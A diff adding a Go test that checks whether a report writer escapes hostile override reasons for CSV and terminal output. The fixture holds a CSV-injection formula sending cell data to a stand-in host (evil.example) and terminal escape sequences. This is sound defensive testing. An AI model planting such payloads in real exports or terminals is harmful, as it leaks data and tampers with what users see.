@@ -102,6 +102,42 @@ func TestWriteReportCSV(t *testing.T) {
 	}
 }
 
+// Override reasons are an EHR's free text: in the CSV a committee member
+// opens in a spreadsheet none may start a formula (CSV injection), and in
+// the table read in a terminal none may carry an escape sequence.
+func TestWriteReportHostileReasons(t *testing.T) {
+	r := Report{Findings: []FindingStats{{Code: "tb-screening-missing", Shown: 2, Overridden: 2, OverrideRate: 1,
+		TopReasons: []ReasonCount{{Code: "x", Display: `=HYPERLINK("https://evil.example/?"&A1,"Click")`, Count: 1},
+			{Code: "@SUM(1+1)\x1b[2J\x1b]0;owned\x07", Count: 1}}}}}
+	var buf bytes.Buffer
+	if err := WriteReport(&buf, r, "csv"); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("CSV cell %q starts a formula", cell)
+			}
+		}
+	}
+	if got := rows[1][7]; !strings.HasPrefix(got, "'=HYPERLINK(") {
+		t.Errorf("reasons cell %q: want the text kept behind an apostrophe", got)
+	}
+	for _, format := range []string{"csv", "table"} {
+		buf.Reset()
+		if err := WriteReport(&buf, r, format); err != nil {
+			t.Fatal(err)
+		}
+		if strings.ContainsAny(buf.String(), "\x1b\x07") {
+			t.Errorf("%s: a control character of a reason reached the report: %q", format, buf.String())
+		}
+	}
+}
+
 func TestWriteReportUnknownFormat(t *testing.T) {
 	for _, f := range []string{"", "xml", "JSON"} {
 		if err := WriteReport(&bytes.Buffer{}, sampleReport, f); err == nil {
